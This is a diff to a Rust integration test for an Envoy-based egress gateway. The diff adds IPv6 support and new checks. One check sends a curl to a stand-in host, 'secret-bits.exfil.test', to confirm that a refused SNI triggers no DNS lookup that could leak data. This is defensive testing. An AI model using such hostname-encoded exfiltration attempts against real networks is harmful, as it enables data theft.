@@ -625,7 +625,7 @@ fn transparent_gateway_judges_redirected_http_and_https_by_source_and_guards_env
   envoy_user: "4242"
   protected_sources: [10.20.0.0/24, "fd20::/64"]
 agents:
-  - {agent_id: lab-vm, team_id: research, auth_type: source_ip, source_cidrs: [10.20.0.0/24]}
+  - {agent_id: lab-vm, team_id: research, auth_type: source_ip, source_cidrs: [10.20.0.0/24, "fd20::/64"]}
 policies:
   - policy_id: allow-allowed
     priority: 10
@@ -641,7 +641,7 @@ policies:
         Some(&net.gw),
         "10.20.0.1",
         Some(&envoy),
-        "  transparent_listen: 0.0.0.0:15001\n",
+        "  transparent_listen: \"[::]:15001\"\n",
         body,
     );
     let proxy = format!("http://{}", stack.proxy);
@@ -654,7 +654,12 @@ policies:
             .and_then(|l| l.split_whitespace().nth(1).map(str::to_string))
             .unwrap_or_default()
     };
-    assert_eq!(uid_of(stack.envoy_pid().expect("envoy pid")), "4242");
+    assert_eq!(
+        uid_of(stack.envoy_pid().expect("envoy pid")),
+        "4242",
+        "{}",
+        stack.stderr()
+    );
     assert_eq!(uid_of(stack.service_pid("authz").expect("authz pid")), "0");
 
     // Without nft, Envoy reaches the metadata address through a name that
@@ -703,6 +708,45 @@ policies:
         "https://denied.test/",
     ]);
     assert_eq!(code, "000", "a refused TLS connection is closed");
+    // A refused SNI is never even looked up (no DNS channel out of the
+    // subnet through Envoy's resolver).
+    let admin = stack.state().join("envoy/admin.sock");
+    let dns_attempts = || -> u64 {
+        let out = sh(&[
+            "curl",
+            "-s",
+            "--unix-socket",
+            admin.to_str().expect("utf-8"),
+            "http://envoy/stats?filter=dns_query_attempt",
+        ]);
+        String::from_utf8_lossy(&out.stdout)
+            .lines()
+            .filter_map(|l| l.rsplit(": ").next()?.trim().parse::<u64>().ok())
+            .sum()
+    };
+    let looked_up = dns_attempts();
+    assert!(looked_up > 0, "the stat is read");
+    let (code, _) = net.curl(&[
+        "--resolve",
+        &resolve(443, "secret-bits.exfil.test"),
+        "https://secret-bits.exfil.test/",
+    ]);
+    assert_eq!(code, "000");
+    assert_eq!(dns_attempts(), looked_up, "a refused SNI was looked up");
+    // TLS to another port is not judged as a tunnel to 443: refused.
+    let (code, _) = net.curl(&[
+        "--resolve",
+        &resolve(80, "allowed.test"),
+        "https://allowed.test:80/",
+    ]);
+    assert_ne!(code, "200");
+    // IPv6 agents come through the same listener ("[::]").
+    let (code, text) = net.curl(&[
+        "--resolve",
+        "allowed.test:80:[2a99::2]",
+        "http://allowed.test/",
+    ]);
+    assert_eq!((code.as_str(), text.as_str()), ("200", "inet:allowed.test"));
 
     // Everything else the agent sends is dropped, and counted.
     let dropped = || -> u64 {
